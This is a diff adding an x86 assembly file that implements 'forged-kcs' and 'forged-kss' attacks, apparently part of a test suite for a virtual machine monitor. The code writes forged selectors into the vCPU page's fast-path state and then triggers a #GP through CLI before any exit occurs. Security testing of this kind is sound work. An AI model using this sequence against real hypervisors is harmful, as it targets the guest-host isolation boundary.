@@ -1,0 +1,86 @@
+; attack_fast_entry.asm - the forged-kcs and forged-kss attacks' instruction
+; sequences (attack_fast.c): a forged write to the switcher's fast-path
+; selectors followed, with no trap in between, by a CLI from the segment
+; the forgery names.
+;
+; Mechanism: the monitor rewrites the vCPU page's fast-path state at every
+; exit, so a forgery must reach the CPU's #GP on the CLI without any exit
+; in between: no segment load that traps (every selector loaded here
+; carries the RPL of the CPL the code runs at, which ring compression lets
+; the CPU load natively), no interrupt (forged-kss runs with IF clear; in
+; forged-kcs an IRQ in the three-instruction window would only undo the
+; forgery).  Natively (or where the guest cannot write the vCPU page)
+; forge is 0 and only the CLI runs.
+
+SW_VCPU      equ 0xFFC23000     ; the vCPU page (attack_lib.h SW_VCPU)
+SW_FAST_KCS  equ SW_VCPU        ; struct switcher_fast: kcs, then kss,
+SW_FAST_KSS  equ SW_VCPU + 4    ; in the monitor that let the guest write them
+SEL_KCODE    equ 0x08
+SEL_KDATA    equ 0x10
+SEL_STACK16  equ 0x58           ; AGDT_STACK16 (attack_lib.h)
+RPL_MASK     equ 3
+
+section .bss
+fast_saved_esp: resd 1
+
+section .text
+
+; void based_cli_run(const u32 *far, u32 forge): far jump to far[0] (the
+; offset) in segment far[1]; there CLI, then back to the flat kernel code.
+; forge: first write kcs = far[1] with the RPL of the CPL (as trap frames
+; show it) and kss = the SS in use.
+global based_cli_run, based_cli, based_cli_after
+based_cli_run:
+	mov ecx, [esp + 4]
+	cmp dword [esp + 8], 0
+	je .go
+	xor eax, eax
+	mov ax, cs
+	and eax, RPL_MASK
+	or eax, [ecx + 4]
+	mov [SW_FAST_KCS], eax
+	xor eax, eax
+	mov ax, ss
+	mov [SW_FAST_KSS], eax
+.go:
+	jmp far [ecx]
+based_cli:                      ; CS: the based segment, EIP: based_cli - base
+	cli
+based_cli_after:
+	jmp SEL_KCODE:based_cli_back
+based_cli_back:
+	ret
+
+; void s16_forged_cli(u32 esp, u32 *out, u32 forge): on SS = SEL_STACK16
+; (16-bit, B=0) with ESP = esp, CLI; out[0] = ESP after it.  forge: first
+; write kss = SEL_STACK16 with the RPL of the CPL (the flat kernel CS
+; already matches kcs).  Nothing addresses memory through ESP.
+global s16_forged_cli
+s16_forged_cli:
+	push ebp
+	push ebx
+	push esi
+	push edi
+	mov [fast_saved_esp], esp
+	mov ebx, [esp + 20]
+	mov edi, [esp + 24]
+	xor esi, esi
+	mov si, cs
+	and esi, RPL_MASK
+	or esi, SEL_STACK16             ; loads without a trap at this CPL
+	cmp dword [esp + 28], 0
+	je .go
+	mov [SW_FAST_KSS], esi
+.go:
+	mov ss, si
+	mov esp, ebx
+	cli
+	mov [edi], esp
+	mov ax, SEL_KDATA
+	mov ss, ax
+	mov esp, [fast_saved_esp]
+	pop edi
+	pop esi
+	pop ebx
+	pop ebp
+	ret
